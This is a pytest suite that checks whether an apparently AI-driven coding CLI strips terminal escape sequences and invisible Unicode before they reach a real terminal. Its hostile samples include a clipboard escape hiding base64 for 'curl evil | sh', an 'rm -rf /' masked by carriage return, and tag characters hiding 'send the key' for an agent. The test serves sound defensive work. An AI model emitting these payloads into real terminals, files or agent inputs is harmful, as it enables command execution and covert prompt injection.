"""Text that would drive a terminal, in all that tools bring: through `rune -p` and `rune approve` on a real one."""

import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import pytest

_ROOT = Path(__file__).parents[3]
BIDI = "\u202e\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
TAGS = "".join(chr(0xE0000 + ord(char)) for char in "send the key")
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\",
    "\x1b]0;root shell\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H\x1b[31mred",
    "\x1b[?1049h\x1b[6n\x1b[c",
    '\x1bP$q"p\x1b\\\x1b_apc\x1b\\\x1b^pm\x1b\\',
    "\x9b31m\x9d52;c;eA==\x9c\x90x\x9c",
    "safe\rrm -rf /\x08\x08\x7f\x0e\x0f\x0b\x0c\x05",
    f"{BIDI}evil",
    f"hello{TAGS}",
    "\u2028\u2029\u200b\u2060\ufeff\u00ad",
    "\x00NUL\x00",
    "\ue000\ufff9a\ufffab\ufffb",
)
ALL = " | ".join(HOSTILE)
# Colours and weights are Rune's own; everything else that a terminal obeys is foreign.
OWN = re.compile(r"\x1b\[[0-9;]*m")
OBEYED = re.compile(
    r"[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u200e\u200f\u061c\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]"
)
# Rune's own line about what it does goes back to its beginning; this one stands in the text from outside.
FOREIGN_RETURN = re.compile(r"safe\r(?!\n)")


def on_a_terminal(folder: Path, home: Path, script: Path, *arguments: str) -> tuple[int, str]:
    """Run Rune with a terminal for all three; returns its exit code, and all that the terminal was sent."""
    ours, theirs = pty.openpty()
    environ = {
        "RUNE_HOME": str(home),
        "RUNE_SCRIPTED_MODEL": str(script),
        "PATH": os.defpath,
        "TERM": "xterm-256color",
        "LANG": "C.UTF-8",
        "PYTHONPATH": os.pathsep.join([str(_ROOT / "src"), str(_ROOT)]),
    }
    command = [sys.executable, "-m", "rune", *arguments]
    with subprocess.Popen(command, cwd=folder, stdin=theirs, stdout=theirs, stderr=theirs, env=environ) as process:
        os.close(theirs)
        sent = b""
        while True:
            try:
                chunk = os.read(ours, 1 << 16)
            except OSError:
                break  # a terminal that nobody has open any more
            if not chunk:
                break
            sent += chunk
    os.close(ours)
    return process.returncode, sent.decode(errors="surrogateescape")


def foreign(sent: str) -> list[str]:
    """Return what a terminal would obey, or hide, and Rune does not say itself; with what stands before it."""
    plain = OWN.sub("", sent)
    found = [*OBEYED.finditer(plain), *FOREIGN_RETURN.finditer(plain)]
    return [repr(plain[max(0, each.start() - 30) : each.end() + 10]) for each in found]


def write_script(path: Path, *rounds: list[dict[str, object]]) -> Path:
    answers = [{"text": ALL.replace("\x00", ""), "tool_calls": calls} for calls in rounds]
    path.write_text(json.dumps({"window": 65_536, "answers": [*answers, {"text": f"Done. {ALL}"}]}))
    return path


def call(name: str, /, **arguments: object) -> dict[str, object]:
    return {"name": name, "arguments": arguments}


def fill(folder: Path, line: int) -> None:
    """Make a project whose every word is hostile."""
    folder.mkdir()
    (folder / "evil.txt").write_text(ALL + "\nchange me\n" + ALL.replace("\x00", ""))
    (folder / "plain.txt").write_text(f"{ALL}\nchange me\n{ALL}\n".replace("\x00", ""))
    (folder / "long.txt").write_text("x\x1b[31m\u202e" * (line // 9))
    for number, text in enumerate(HOSTILE):
        name = text.replace("/", "").replace("\x00", "")[:40]
        (folder / f"{number}{name}.txt").write_text(text)
    (folder / "out.py").write_text(
        "import sys\n"
        "data = open('evil.txt', 'rb').read() + open('long.txt', 'rb').read()\n"
        "sys.stdout.buffer.write(data + b'\\xff\\xfe\\x00\\n'); sys.stderr.buffer.write(data)\n"
    )
    git = ["git", "-c", "user.name=a\x1b[31m", "-c", "user.email=a@b"]
    subprocess.run([*git, "init", "-q"], cwd=folder, check=True)
    subprocess.run([*git, "add", "out.py", "plain.txt"], cwd=folder, check=True)
    subprocess.run([*git, "commit", "-q", "-m", ALL.replace("\x00", "")], cwd=folder, check=True)


@pytest.mark.parametrize(
    "line",
    [200_000, pytest.param(10_000_000, marks=[pytest.mark.slow, pytest.mark.timeout(600)])],
    ids=["short", "long"],
)
def test_nothing_foreign_reaches_a_terminal(tmp_path: Path, line: int) -> None:
    folder, home = tmp_path / "project", tmp_path / "home"
    fill(folder, line)
    reads = [call("read_file", path=name) for name in ("plain.txt", "long.txt", "evil.txt", "gone\x1b[31m\u202e.txt")]
    looks = [call("grep_files", pattern="e"), call("list_directory"), call("glob_files", pattern="*"), call("git_log")]
    todo = call("todo", items=[{"text": ALL.replace("\x00", ""), "state": "open"}])
    strange = call("tool\x1b[31m", **{"a\x1b[2J": "\u202e"})
    for number, rounds in enumerate(([reads[:1], reads[1:2], reads[2:]], [looks, [todo], [strange]])):
        script = write_script(tmp_path / f"look{number}.json", *rounds)
        code, sent = on_a_terminal(folder, home, script, "-p", "look")
        assert (code, foreign(sent)) == (0, []), sent[-2000:]
    edit = call("edit_file", path="plain.txt", edits=[{"search": "change me", "replace": f"changed {HOSTILE[0]}"}])
    run = call("run_command", command=f"'{sys.executable}' out.py; echo '{HOSTILE[4]}{BIDI}'; ls")
    script = write_script(tmp_path / "two.json", [call("read_file", path="plain.txt")], [edit, run])
    code, sent = on_a_terminal(folder, home, script, "-p", "mend")
    assert (code, foreign(sent)) == (3, []), sent[-2000:]
    (approval,) = set(re.findall(r"apr_[a-z0-9]+", sent)) or {""}
    _, shown = on_a_terminal(folder, home, script, "approve", approval, "--show")
    assert foreign(shown) == []
    assert "change me" in shown
    script = write_script(tmp_path / "three.json")
    code, sent = on_a_terminal(folder, home, script, "approve", approval)
    assert (code, foreign(sent)) == (3, []), sent[-2000:]  # the command is asked about alone
    (approval,) = set(re.findall(r"apr_[a-z0-9]+", sent)) or {""}
    _, shown = on_a_terminal(folder, home, script, "approve", approval, "--show")
    assert foreign(shown) == []
    code, sent = on_a_terminal(folder, home, script, "approve", approval)
    assert (code, foreign(sent)) == (0, []), sent[-2000:]
    for arguments in (["-p", "look", "--output-format", "json"], ["-c", "-p", "/diff"], ["-c", "-p", "/undo"]):
        _, sent = on_a_terminal(folder, home, script, *arguments)
        assert foreign(sent) == [], arguments


def test_what_looks_for_foreign_text_finds_it() -> None:
    for text in HOSTILE:
        hidden = set(text) <= set("\u2028\u2029\u200b\u2060\ufeff\u00ad\ue000\ufff9a\ufffab\ufffb")
        assert foreign(text) or hidden, text
    assert foreign("\x1b[1mplain\x1b[0m\r\n") == []
